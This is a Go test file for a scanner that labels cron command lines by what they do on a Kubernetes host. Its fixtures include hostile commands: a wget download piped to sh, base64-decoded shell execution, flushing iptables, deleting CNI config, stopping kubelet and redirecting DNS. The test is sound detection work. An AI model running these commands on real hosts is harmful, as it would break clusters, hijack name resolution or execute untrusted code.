//go:build linux

// Tests of host.shell's command-word scanner: what a command line does.

package host

import (
	"strings"
	"testing"
)

func TestCronReasons(t *testing.T) {
	for cmd, want := range map[string]string{
		"cd / && run-parts --report /etc/cron.hourly":                "",
		"cp /usr/bin/kubectl /backup/":                               "touches files Kubernetes needs",
		"sudo -n systemctl stop kubelet":                             "stops services",
		"systemctl status kubelet > /dev/null":                       "",
		"env X=1 /usr/local/bin/kubectl scale deploy/x --replicas=0": "drives the cluster or the runtime",
		"echo nameserver 6.6.6.6 > /etc/resolv.conf":                 "touches files Kubernetes needs",
		"wget -qO- http://x/y | sh":                                  "downloads code and runs it",
		"echo aGk= | base64 -d | sh":                                 "decodes hidden base64",
		"/dev/shm/.x/run":                                            "runs from a world-writable directory",
		"if [ (":                                                     "",
		"sudo -u root chattr +i /etc/hosts":                          "changes file attributes or modes, touches files Kubernetes needs",
		"timeout 10 kubectl delete ns x":                             "drives the cluster or the runtime",
		"nice -n 5 ip link set eth0 down":                            "changes the network or the kernel",
		"sh -c 'iptables -F'":                                        "changes the network or the kernel",
		"env -i PATH=/bin bash -ec \"kubectl get po\"":               "drives the cluster or the runtime",
		"su -c 'systemctl stop kubelet' root":                        "stops services",
		"nsenter -t 1 -m -- rm -rf /etc/cni/net.d":                   "touches files Kubernetes needs",
		"flock -w 5 /run/x.lock -c 'chmod 000 /usr/bin/kubelet'":     "changes file attributes or modes, touches files Kubernetes needs",
		"eval \"$(echo Y2hhdHRy | base64 -d) +i /etc/hosts\"":        "decodes hidden base64, touches files Kubernetes needs",
		"\\chattr +i /etc/hosts":                                     "changes file attributes or modes, touches files Kubernetes needs",
		"command -v debian-sa1 > /dev/null && debian-sa1 1 1":        "",
	} {
		if got := strings.Join(cronReasons(cmd), ", "); got != want {
			t.Errorf("cronReasons(%q) = %q, want %q", cmd, got, want)
		}
	}
}
